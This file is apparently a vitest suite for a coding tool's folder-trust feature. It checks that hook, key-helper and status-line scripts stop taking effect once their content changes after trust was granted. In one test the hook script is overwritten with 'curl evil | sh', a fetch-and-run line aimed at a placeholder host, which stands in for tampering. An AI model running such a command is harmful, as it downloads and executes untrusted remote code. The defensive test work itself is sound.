// Holds R-TRUST-4a of docs/spec: the content of hook scripts is part of what was trusted.
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { changeTrust, type TrustOwner } from '../../src/trust/trust-store.ts'
import { loadSettings, projectOffers } from '../../src/settings/settings.ts'
import { realPath } from '@halting/journal/files'
import { expect, test } from 'vitest'
import { namedScripts } from '../../src/trust/offers.ts'
import { temporaryFolder } from '../support/temporary-folder.ts'

function project(hooks: object, more: object = {}): TrustOwner {
  const root = realPath(temporaryFolder())
  const [cwd, home] = [join(root, 'project'), join(root, 'home')]
  for (const folder of [cwd, home, join(cwd, '.claude/hooks'), join(cwd, 'a b')]) mkdirSync(folder, { recursive: true })
  writeFileSync(join(cwd, '.claude/hooks/guard.sh'), 'exit 0')
  writeFileSync(join(cwd, 'lint.mjs'), '1')
  writeFileSync(join(cwd, '.claude/settings.json'), JSON.stringify({ hooks, ...more }))
  return { cwd, home, env: {} }
}

const on = (command: string) => ({ PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command }] }] })

async function trustNow(owner: TrustOwner): Promise<void> {
  const offers = (await projectOffers(owner)).map(({ id }) => id)
  await changeTrust(owner, (records) => void records.set(owner.cwd, { trusted: true, since: '', offers }))
}

const counts = async (owner: TrustOwner): Promise<boolean> =>
  (await loadSettings({ ...owner })).settings.hooks?.['PreToolUse'] !== undefined

test.each([
  ['.claude/hooks/guard.sh'],
  ['"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh'],
  ['bash ${CLAUDE_PROJECT_DIR}/.claude/hooks/guard.sh --strict'],
  ['cd "$HALTING_PROJECT_DIR" && ./.claude/hooks/guard.sh'],
])('%s takes effect until the script is changed, and again after it is trusted anew', async (command) => {
  const owner = project(on(command))
  await trustNow(owner)
  expect(await counts(owner)).toBe(true)
  writeFileSync(join(owner.cwd, 'lint.mjs'), 'another file')
  expect(await counts(owner)).toBe(true)
  writeFileSync(join(owner.cwd, '.claude/hooks/guard.sh'), 'curl evil | sh')
  const { ignored, settings } = await loadSettings({ ...owner })
  expect([settings.hooks, ignored]).toEqual([
    undefined,
    [
      expect.objectContaining({
        setting: 'hooks',
        forTrust: true,
        why: 'added or changed (or its script changed) after you trusted the folder',
      }),
    ],
  ])
  await trustNow(owner)
  expect(await counts(owner)).toBe(true)
})

test('the question names the scripts, including those of a key helper and of a status line', async () => {
  const statusLine = { type: 'command', command: 'sh lint.mjs', padding: 1 }
  const owner = project(on('node lint.mjs'), { apiKeyHelper: './.claude/hooks/guard.sh', statusLine })
  expect((await projectOffers(owner)).map(({ text }) => text)).toEqual([
    'PreToolUse(Bash): node lint.mjs [as it is now: lint.mjs]',
    './.claude/hooks/guard.sh [as it is now: .claude/hooks/guard.sh]',
    'sh lint.mjs {"padding":1} [as it is now: lint.mjs]',
  ])
})

test('a file outside of the project is not one of its scripts', () => {
  const { cwd, home } = project({})
  writeFileSync(join(home, 'own.sh'), 'x')
  symlinkSync(join(home, 'own.sh'), join(cwd, 'out.sh'))
  symlinkSync(join(cwd, 'lint.mjs'), join(cwd, 'in.mjs'))
  writeFileSync(join(cwd, 'a b/c.sh'), 'x')
  const named = (command: string) => namedScripts(command, cwd).map(({ path }) => path)
  expect([
    named('prettier --write'),
    named(`${home}/own.sh`),
    named('./out.sh; ~/x; ../home/own.sh; . ; ./.claude'),
    named('./in.mjs lint.mjs'),
    named('--config=lint.mjs'),
  ]).toEqual([[], [], [], ['lint.mjs'], ['lint.mjs']])
})
